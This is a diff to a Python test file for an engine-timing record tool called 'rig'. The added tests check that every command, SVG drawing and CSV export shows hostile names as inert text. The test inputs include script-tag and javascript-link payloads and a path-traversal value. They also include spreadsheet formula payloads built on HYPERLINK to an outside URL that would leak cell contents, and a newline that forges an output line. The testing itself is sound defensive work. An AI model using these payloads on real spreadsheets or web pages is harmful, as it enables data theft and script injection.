@@ -2,21 +2,26 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import re
 import sys
 import unicodedata
 from html.parser import HTMLParser
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
-from made_job import MadeJob, Ran, rig
+from made_job import MadeJob, Ran, certificate_in, copied, rig
 
 from rig.command.desk import Desk
+from rig.record import seal
 from rig.screen import plain
 from rig.screen.dashboard import render
 from rig.wire.line import encode
 
+SVG = "{http://www.w3.org/2000/svg}"
 UPPER = "[b]up[/b]<img src=x>{0}%s"
 LOWER = "lo&wer'\\\"</td><b>"
 ENGINE = "<script>alert(1)</script> [red]{engine}[/]"
@@ -30,6 +35,10 @@ def hostile(text: str) -> str:
         text = text.replace(f'"{old}"', json.dumps(new))
     text = text.replace('person = ""', f"person = {json.dumps('<a href=javascript:x>me</a>')}")
     text = text.replace('serial = ""', f"serial = {json.dumps('<!-- 1 -->')}", 1)
+    text += f"[[means.slot]]\nunit = {json.dumps(UPPER)}\nradius_mm = 40\n"
+    text += "clockwise_mm = 9\nanticlockwise_mm = 9\n"
+    text += f'[[means.mesh]]\ndriver = "crank"\ndriven = {json.dumps(UPPER)}\n'
+    text += "driver_teeth = 24\ndriven_teeth = 24\n"
     return text.replace("workshop manual, page 12", "<style>*{display:none}</style> page 12")
 
 
@@ -44,6 +53,9 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> MadeJob:
     last = next(o for o in made.bench.session.openings if o.counts)
     made.bench.note("strike", {"t_us": last.t_us, "why": BAD})
     made.bench.note("weather", {"x": BAD})
+    for unit in (UPPER, LOWER):
+        made.bench.note("setting", {"unit": unit, "setting": "full retard"})
+    made.do("lever full retard", "turn 800 at 110")
     made.end()
     rig("certify", made.folder)
     return made
@@ -57,7 +69,7 @@ def harmless(text: str) -> bool:
 
 
 def calls(made: MadeJob) -> list[tuple[str | Path, ...]]:
-    (folder,) = (made.folder / "certificates").iterdir()
+    folder = sorted((made.folder / "certificates").iterdir())[0]
     return [
         ("figures", made.folder, "--readings"),
         ("tdc", made.folder),
@@ -65,6 +77,12 @@ def calls(made: MadeJob) -> list[tuple[str | Path, ...]]:
         ("verify", folder, "--all"),
         ("compare", folder, folder),
         ("read", made.capture, "--job", made.folder),
+        ("check", made.folder),
+        ("lever", made.folder),
+        ("gears", made.folder),
+        ("unit", made.folder, "--unit", UPPER, "--serial", BAD, "--type", "=../../x"),
+        ("correct", made.folder),
+        ("history", made.folder),
     ]
 
 
@@ -77,6 +95,64 @@ def test_every_command_shows_them_as_they_are_written(made: MadeJob) -> None:
     figures = rig("figures", made.folder, "--readings")
     assert UPPER in figures.out  # as it stands: neither obeyed nor taken away
     assert LOWER in figures.out
+
+
+@pytest.mark.slow
+def test_drawings_hold_them_as_text(made: MadeJob, tmp_path: Path) -> None:
+    """Only what a drawing is made of, and names as text; nothing that acts or loads."""
+    plain = MadeJob(tmp_path / "plain").find_tdc().state_stroke().do("turn 800 at 110").end()
+    for kind in ("readings", "turn", "drift", "signal"):
+        seen = []
+        for job in (plain, made):
+            if kind == "drift":
+                rig("certify", job.folder)
+            out = tmp_path / f"{kind}.svg"
+            ran = rig("draw", kind, job.capture if kind == "signal" else job.folder, "--out", out)
+            assert ran.status == 0, ran.err
+            seen.append(ElementTree.fromstring(out.read_text("utf-8")))
+        tags = [{each.tag for each in tree.iter()} for tree in seen]
+        assert tags[1] <= tags[0] | {SVG + "text", SVG + "tspan"}, kind
+        assert not tags[1] & {SVG + "script", SVG + "image", SVG + "a", SVG + "foreignObject"}
+        links = [v for each in seen[1].iter() for k, v in each.items() if k.endswith("href")]
+        assert all(link.startswith("#") for link in links)
+        assert not any(k.startswith("on") for each in seen[1].iter() for k in each.attrib)
+
+
+@pytest.mark.parametrize("signs", ["=+-@", "＝＋－＠"])
+def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, signs: str) -> None:
+    """A spreadsheet takes for a formula what begins so (common practice, no source); fields are
+    read back as RFC 4180 says."""
+    names = [f'{sign}HYPERLINK("http://x/?"&A1)' for sign in signs]
+
+    def evil(text: str) -> str:
+        for old, new in zip(("upper", "lower", "full advance", "full retard"), names, strict=True):
+            text = text.replace(f'"{old}"', json.dumps(new))
+        return text
+
+    made = MadeJob(tmp_path / "job", edit=evil).find_tdc().state_stroke()
+    made.do("turn 800 at 110").end()
+    rig("certify", made.folder)
+    ran = rig("history", made.folder, "--cylinders", "--csv", tmp_path / "all.csv")
+    assert ran.status == 0, ran.err
+    with (tmp_path / "all.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    cells = [cell for row in rows for cell in row.values()]
+    assert {row["unit"] for row in rows} == {f"'{name}" for name in names[:2]}
+    texts = [cell for cell in cells if not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell)]
+    assert not [text for text in texts if text.lstrip().startswith(tuple("=+-@＝＋－＠"))]
+
+
+def test_a_name_cannot_begin_a_line_of_its_own(tmp_path: Path) -> None:
+    """A record edited and sealed anew, whose unit is called by a sentence of ours."""
+    folder = copied(tmp_path)
+    file = certificate_in(folder)
+    record = file.read_text("ascii").replace('"upper"', json.dumps("upper\neverything holds"))
+    file.write_bytes(seal.file_bytes(json.loads(record), b""))
+    for words in (("history", folder), ("compare", file, file), ("verify", file, "--all")):
+        ran = rig(*words)
+        assert ran.status in (0, 1), ran.err
+        assert "everything holds" in ran.out
+        assert not any(line.startswith("everything") for line in ran.out.splitlines())
 
 
 def test_json_carries_them_whole(made: MadeJob) -> None:
